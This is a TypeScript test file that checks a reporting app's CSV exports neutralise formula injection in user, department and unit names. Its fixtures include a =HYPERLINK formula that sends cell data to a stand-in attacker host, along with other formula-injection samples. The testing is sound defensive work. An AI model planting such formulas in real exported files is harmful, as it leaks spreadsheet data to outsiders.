import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paths } from '../../contract/api-paths';
import { insertDepartment, insertUnit } from '../../server/db/repositories/departments';
import { API, addUser, bearer, demoClientId, login } from './helpers/fixtures';
import { createTestApp, dbKind, type TestApp } from './helpers/test-app';
import { isoDay, seedUsage } from './helpers/usage-seed';

// Names people typed end up in the exported CSV files. A spreadsheet runs a cell starting with =, +, -, @, a tab or a
// carriage return as a formula (a =HYPERLINK that sends data away, a DDE command), so such a cell must arrive as text.

/** A year no other row of this suite's database falls in. */
const R = new Date().getUTCFullYear() - 3;
const HYPERLINK = '=HYPERLINK("http://attacker.test/?q="&A2,"Open")';

describe(`CSV exports neutralise formulas in names (${dbKind})`, () => {
  let t: TestApp;
  let admin: Record<string, string>;

  beforeAll(async () => {
    t = await createTestApp();
    admin = bearer((await login(t.app, 'admin@demo.local')).access_token);
    const clientId = await demoClientId(t.db);
    const formula = await insertDepartment(t.db, clientId, HYPERLINK);
    const plus = await insertUnit(t.db, formula.id, '+1');
    const minus = await insertDepartment(t.db, clientId, '-2');
    const at = await insertUnit(t.db, minus.id, '@SUM(A1:A9)');
    const people: [string, string, string | null][] = [
      ['=1+1', formula.id, plus.id],
      ['-2', minus.id, at.id],
      ['@SUM(A1)', minus.id, at.id],
      ['\tx', formula.id, plus.id],
      ['\rx', formula.id, plus.id],
      ['Plain - Name', formula.id, plus.id],
    ];
    let n = 0;
    for (const [name, department_id, unit_id] of people) {
      n += 1;
      const user = await addUser(t.db, { client_id: clientId, name, email: `hostile${n}@demo.local`, department_id, unit_id });
      // The first person's token count is negative (a refund-like correction): a number cell that must stay a number.
      const tokens = n === 1 ? { prompt_tokens: -7, completion_tokens: 0 } : { prompt_tokens: n, completion_tokens: 0 };
      await seedUsage(t.db, [{ user, department_id, unit_id, ...tokens, created_at: isoDay(R, 3) }]);
    }
  });
  afterAll(() => t.close());

  const exported = async (path: string) => {
    const res = await t.app.inject({ method: 'GET', url: `${API}${path}`, headers: admin, query: { year: String(R), export: 'true' } });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    return { text: res.body, rows: parse(res.body, { relax_column_count: false }) as string[][] };
  };

  it('the user report: every name cell that would run as a formula starts with an apostrophe, numbers stay numbers', async () => {
    const { text, rows } = await exported(paths.userReport);
    const [header, ...body] = rows;
    expect(header).toEqual(['User', 'Email', 'Department', 'Unit', 'Queries', 'Files', 'Tokens', 'Size (MB)']);
    const byEmail = new Map(body.map((row) => [row[1], row]));
    expect(byEmail.get('hostile1@demo.local')).toEqual(["'=1+1", 'hostile1@demo.local', `'${HYPERLINK}`, "'+1", '1', '0', '-7', '0.00']);
    expect(byEmail.get('hostile2@demo.local')?.slice(0, 4)).toEqual(["'-2", 'hostile2@demo.local', "'-2", "'@SUM(A1:A9)"]);
    expect(byEmail.get('hostile3@demo.local')?.[0]).toBe("'@SUM(A1)");
    expect(byEmail.get('hostile4@demo.local')?.[0]).toBe("'\tx");
    expect(byEmail.get('hostile5@demo.local')?.[0]).toBe("'\rx");
    // A name with a dash inside is left alone.
    expect(byEmail.get('hostile6@demo.local')?.[0]).toBe('Plain - Name');
    // The negative number is written bare, as a number, not as text.
    expect(text).toMatch(/,1,0,-7,0\.00\r?\n/);
    // No cell of the file starts with a formula character.
    for (const cell of body.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+@\t\r]/);
  });

  it('the department report: department and unit names are neutralised, counts are untouched', async () => {
    const { rows } = await exported(paths.departmentReport);
    const [header, ...body] = rows;
    expect(header).toEqual(['Department', 'Unit', 'Queries', 'Files', 'Size (MB)']);
    expect(body).toEqual(
      expect.arrayContaining([
        [`'${HYPERLINK}`, "'+1", '4', '0', '0.00'],
        ["'-2", "'@SUM(A1:A9)", '2', '0', '0.00'],
      ]),
    );
    for (const cell of body.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });
});
